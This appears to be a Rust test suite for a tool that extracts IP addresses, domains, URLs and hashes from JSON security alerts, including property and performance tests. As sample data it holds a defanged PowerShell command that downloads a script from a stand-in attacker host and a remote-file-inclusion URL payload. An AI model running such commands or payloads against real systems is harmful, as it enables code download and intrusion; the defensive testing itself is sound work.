use std::time::{Duration, Instant};

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::indicator::Indicator;

/// Each line: indicator, path, direction.
fn found(alert: &str) -> Vec<String> {
    let line = |found: Found| format!("{} {} {}", found.indicator, found.path, found.direction.name());
    extract(alert).into_iter().map(line).collect()
}

fn check(alert: &Value, expected: &[&str]) {
    assert_eq!(found(&alert.to_string()), expected, "{alert}");
}

const MD5: &str = "68b329da9893e34099c7d8ad5cb9c940";
const SHA1: &str = "adc83b19e793491b1c6ea0fd8b46cd9f32e592fc";
const SHA256: &str = "01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b";

#[test]
fn typed_fields_come_first_and_name_the_direction() {
    let alert = r#"{"id":"1.1","rule":{"id":"1","level":3,"info":"192.0.2.77"},"agent":{"ip":"10.0.0.5"},
        "full_log":"from 203.0.113.9 via 198.51.100.7",
        "data":{"srcip":"203.0.113.9","nested":{"dest_ip":"2001:DB8::1"},"list":[{"ipAddress":"-"}]}}"#;
    assert_eq!(
        found(alert),
        [
            "203.0.113.9 data.srcip source",
            "2001:db8::1 data.nested.dest_ip destination",
            "198.51.100.7 full_log unknown",
        ]
    );
}

#[test]
fn the_place_that_says_most_wins_wherever_it_stands() {
    check(
        &json!({
            "full_log": "203.0.113.9 asked for evil.example",
            "data": {"hostname": "evil.example", "dns": {"rrname": "evil.example"}, "src_ip": "203.0.113.9"},
            "previous_output": "203.0.113.9",
        }),
        &["evil.example data.dns.rrname destination", "203.0.113.9 data.src_ip source"],
    );
}

#[test]
fn addresses_are_read_as_their_writers_write_them() {
    for (value, expected) in [
        ("203.0.113.9", Some("203.0.113.9")),
        ("203.0.113.9:49152", Some("203.0.113.9")),
        ("[2001:db8::1]:443", Some("2001:db8::1")),
        ("::ffff:203.0.113.9", Some("203.0.113.9")),
        ("fe80::1%12", Some("fe80::1")),
        ("::1", Some("::1")),
        (" 203.0.113.9 ", Some("203.0.113.9")),
        ("evil.example", Some("evil.example")),
        ("", None),
        ("-", None),
        ("null", None),
        ("AWS Internal", None),
        ("ec2.amazonaws.com", None),
    ] {
        let alert = json!({"data": {"office365": {"ClientIP": value}}});
        let expected: Vec<String> =
            expected.into_iter().map(|address| format!("{address} data.office365.ClientIP source")).collect();
        assert_eq!(found(&alert.to_string()), expected, "{value}");
    }
    check(
        &json!({"data": {"xff": "203.0.113.9, 198.51.100.7"}}),
        &["203.0.113.9 data.xff source", "198.51.100.7 data.xff source"],
    );
}

#[test]
fn windows_and_sysmon_events() {
    check(
        &json!({"data": {"win": {
            "system": {"providerName": "Microsoft-Windows-Sysmon", "version": "5", "message": "\"Dns query: evil.example\""},
            "eventdata": {
                "hashes": format!("MD5={},SHA256={},IMPHASH={MD5}", MD5.to_uppercase(), SHA256.to_uppercase()),
                "image": "C:\\\\Windows\\\\System32\\\\cmd.exe", "fileVersion": "10.0.1.1",
                "queryName": "evil.example", "queryResults": "type:  5 cdn.example;::ffff:203.0.113.9;",
                "destinationHostname": "c2.example", "destinationIp": "198.51.100.7", "sourceIp": "10.0.0.5",
                "parentCommandLine": "powershell -c iwr hxxp://evil[.]example/a.ps1",
            },
        }}}),
        &[
            "evil.example data.win.eventdata.queryName destination",
            "c2.example data.win.eventdata.destinationHostname destination",
            "198.51.100.7 data.win.eventdata.destinationIp destination",
            "10.0.0.5 data.win.eventdata.sourceIp source",
            &format!("{MD5} data.win.eventdata.hashes unknown"),
            &format!("{SHA256} data.win.eventdata.hashes unknown"),
            "cdn.example data.win.eventdata.queryResults unknown",
            "203.0.113.9 data.win.eventdata.queryResults unknown",
            "http://evil.example/a.ps1 data.win.eventdata.parentCommandLine unknown",
        ],
    );
}

#[test]
fn hashes_of_files_and_no_others() {
    check(
        &json!({
            "syscheck": {"md5_after": MD5, "sha1_before": SHA1, "sha256_after": SHA256, "path": "/etc/hosts"},
            "data": {
                "virustotal": {"source": {"sha1": SHA1}, "permalink": "https://www.virustotal.com/"},
                "docker": {"id": SHA256.replace('0', "1")}, "tls": {"ja3": {"hash": MD5.replace('6', "7")}},
                "md5": "d41d8cd98f00b204e9800998ecf8427e",
            },
        }),
        &[
            &format!("{MD5} syscheck.md5_after unknown"),
            &format!("{SHA256} syscheck.sha256_after unknown"),
            &format!("{SHA1} data.virustotal.source.sha1 unknown"),
        ],
    );
    let office = json!({"data": {"office365": {"FileData": {"SHA256": "AbpHGcgLb+kRsJGnwFEktk7uzpZOCcBY74+YBdrKVGs="}}}});
    check(&office, &[&format!("{SHA256} data.office365.FileData.SHA256 unknown")]);
}

#[test]
fn urls_are_typed_where_they_are_whole() {
    check(
        &json!({"data": {"url": "http://evil.example/a?b=c", "srcip": "203.0.113.9", "protocol": "GET"}}),
        &[
            "203.0.113.9 data.srcip source",
            "http://evil.example/a?b=c data.url unknown",
            "evil.example data.url unknown",
        ],
    );
    check(
        &json!({"data": {"url": "/index.php?page=http://evil.example/sh.txt&v=1.2"}}),
        &["http://evil.example/sh.txt&v=1.2 data.url unknown", "evil.example data.url unknown"],
    );
    check(&json!({"data": {"url": "/favicon.ico"}}), &[]);
}

#[test]
fn what_says_nothing_about_the_event_is_not_searched() {
    check(
        &json!({
            "agent": {"ip": "203.0.113.9"}, "manager": {"name": "a.example"}, "cluster": {"node": "b.example"},
            "rule": {"description": "evil.example"}, "decoder": {"name": "c.example"}, "location": "d.example",
            "predecoder": {"hostname": "e.example"}, "id": "203.0.113.9", "timestamp": "203.0.113.9",
            "data": {
                "sca": {"check": {"compliance": {"cis": "1.1.1.1"}}},
                "vulnerability": {"references": ["https://nvd.nist.gov/"]},
                "evil.example": 1, "number": 203.0, "truth": true, "nothing": null,
            },
        }),
        &[],
    );
    let nested = json!({"data": {"agent": {"ip": "203.0.113.9"}, "id": "from 203.0.113.9"}});
    check(&nested, &["203.0.113.9 data.agent.ip unknown"]);
}

#[test]
fn what_is_not_json_has_none() {
    for text in ["", "203.0.113.9", "{\"a\":\"203.0.113.9\"", "{\"a\":\"203.0.113.9\"} x", "[\"\\ud800\"]"] {
        assert_eq!(found(text), [] as [&str; 0], "{text}");
    }
    assert_eq!(found(&("[".repeat(500) + &"]".repeat(500))), [] as [&str; 0]);
}

#[test]
fn a_long_path_is_cut() {
    let alert = json!({"data": {"ä".repeat(600): "203.0.113.9"}});
    assert_eq!(extract(&alert.to_string()).first().map(|found| found.path.len()), Some(511));
}

/// The string as JSON, each character as an escape of its own where chance says so.
fn escaped(text: &str, escapes: u64) -> String {
    let letters = text.chars().enumerate().map(|(place, letter)| {
        let chosen = escapes >> (place % 64) & 1 == 1 && u32::from(letter) < 0x1_0000;
        match letter {
            '/' if chosen => "\\/".to_owned(),
            '"' | '\\' => format!("\\{letter}"),
            _ if chosen || letter < ' ' => format!("\\u{:04x}", u32::from(letter)),
            _ => letter.to_string(),
        }
    });
    format!("\"{}\"", letters.collect::<String>())
}

fn indicator() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<std::net::Ipv4Addr>().prop_map(|address| address.to_string()),
        (1_u128 << 100..).prop_map(|bits| std::net::Ipv6Addr::from_bits(bits).to_string()),
        "[b-h][a-z0-9]{4,9}\\.(com|ru|co\\.uk|example)",
        "https?://[b-h][a-z]{4,9}\\.example/[a-z]{0,9}",
        "[a-f]{2}[0-9a-f]{29}1",
        "[a-f]{2}[0-9a-f]{61}1",
    ]
}

fn separator() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        ".", "[.]", "(.)", "{.}", "[dot]", "(DOT)", "\\.", "[.", ".]", " [.] ", "[[.]]",
    ])
}

proptest! {
    #[test]
    fn what_is_written_is_found_in_any_form_at_any_place(
        indicator in indicator(), separator in separator(), escapes: u64,
        before in prop::sample::select(vec!["", "from ", "<", "\"", "(", "host=", "x, ", "\n"]),
        after in prop::sample::select(vec!["", " port", ">", "\"", ")", ",", ". Then", "\n", ";"]),
        keys in prop::sample::select(vec![["data", "full"], ["full_log", "a b"], ["previous_output", "\u{e4}"]]),
    ) {
        let expected: Indicator = indicator.parse().unwrap();
        let text = escaped(&format!("{before}{}{after}", indicator.replace('.', separator)), escapes);
        let [outer, inner] = keys;
        let alert = format!("{{\"id\":\"1.1\",\"{outer}\": [{{\"{inner}\": {text}}}]}}");
        let found = extract(&alert);
        let place = found.iter().find(|found| found.indicator == expected);
        prop_assert_eq!(place.map(|found| found.path.clone()), Some(format!("{outer}.{inner}")), "{}", alert);
    }

    #[test]
    fn no_text_panics(text in "\\PC{0,80}") {
        extract(&text);
        extract(&json!({"data": {"srcip": text, "hashes": text, "queryName": text, "url": text}}).to_string());
    }
}

/// Each of these made one step of an earlier extractor look at everything behind it.
#[test]
fn what_is_made_to_be_slow_is_not() {
    const BYTES: usize = 256 * 1024;
    let patterns = [
        ".",
        ":",
        "[",
        "[.",
        ".]",
        "a.",
        "1.",
        "1:",
        "::",
        "a[.]",
        " [.] ",
        "\\",
        "\\.",
        "/",
        "://",
        "a://b/",
        "http://",
        "http://a.co/",
        "http://a.co/,http",
        "http%3A%2F%2F",
        "0",
        "f",
        "0x",
        "a-",
        "@",
        "1.1.1.1:",
        "1.1.1.1-",
        "\u{e4}",
        "\u{201c}",
        "68b329da9893e34099c7d8ad5cb9c940:",
        "68b329da9893e34099c7d8ad5cb9c940.",
        "%25",
        "(",
        "((http://a.co/",
    ];
    for pattern in patterns {
        let alert = json!({"full_log": pattern.repeat(BYTES / pattern.len())}).to_string();
        let begin = Instant::now();
        extract(&alert);
        assert!(begin.elapsed() < Duration::from_secs(3), "{pattern} took {:?}", begin.elapsed());
    }
}
